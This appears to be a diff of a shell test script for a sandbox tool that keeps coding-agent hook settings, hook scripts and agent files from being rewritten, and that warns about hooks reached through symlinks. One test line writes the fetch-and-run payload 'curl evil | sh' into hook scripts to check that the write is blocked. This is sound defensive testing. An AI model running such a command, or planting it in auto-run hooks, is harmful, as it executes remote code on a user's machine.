@@ -436,7 +436,7 @@ as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
    {"type": "command", "command": "(cd web && npm test); ./scripts/after-cd.sh"},
    {"type": "command", "command": "\"${CLAUDE_PROJECT_DIR:-.}\"/scripts/default.sh"},
    {"type": "command", "command": "npx prettier --write src/ >> .claude/hook.log 2>&1"},
-   {"type": "command", "command": "./linked/l.sh; \"$TOOLS\"/lint.sh"}]}]}}
+   {"type": "command", "command": "./real/l.sh; \"$TOOLS\"/lint.sh"}]}]}}
 JSON
 for f in scripts/after-cd.sh scripts/default.sh scripts/env.sh; do
 	ltd run -- "$PROBE" write "$PROJ/$f" 'curl evil | sh'
@@ -444,8 +444,14 @@ for f in scripts/after-cd.sh scripts/default.sh scripts/env.sh; do
 done
 ltd run -- sh -c "echo changed > '$PROJ/src/app.js' && echo log >> '$PROJ/.claude/hook.log' && echo WROTE"
 expect_out "a directory a hook formats and its log stay writable" "^WROTE\$"
-expect_out "a hook through a link in the project is said" "warning: .*settings.json: a command runs .*linked/l.sh through the link .*linked"
 expect_out "an unknowable path is said" "warning: .*settings.json: a command names \\\$TOOLS/lint.sh, which ltd-native cannot resolve"
+as_user mkdir -p "$PROJ/.claude/agents"
+ltd run -- "$PROBE" write "$PROJ/.claude/agents/helper.md" x
+expect_out "agents (which may carry hooks of their own) are read-only" "^write err EROFS"
+as_user sed -i 's|./real/l.sh|./linked/l.sh|' "$PROJ/.claude/settings.json"
+ltd run -- "$PROBE" write "$PROJ/real/l.sh" x
+expect_rc "a hook through a link in the project refuses the run" 125
+expect_out "... naming the link and the fix" "a command runs .*linked/l.sh through the link .*linked in the project.*real path"
 as_user sh -c "printf '{\"hooks\": ' > '$PROJ/.claude/settings.json'"
 ltd run -- true
 expect_rc "a settings file that is not JSON refuses the run" 125
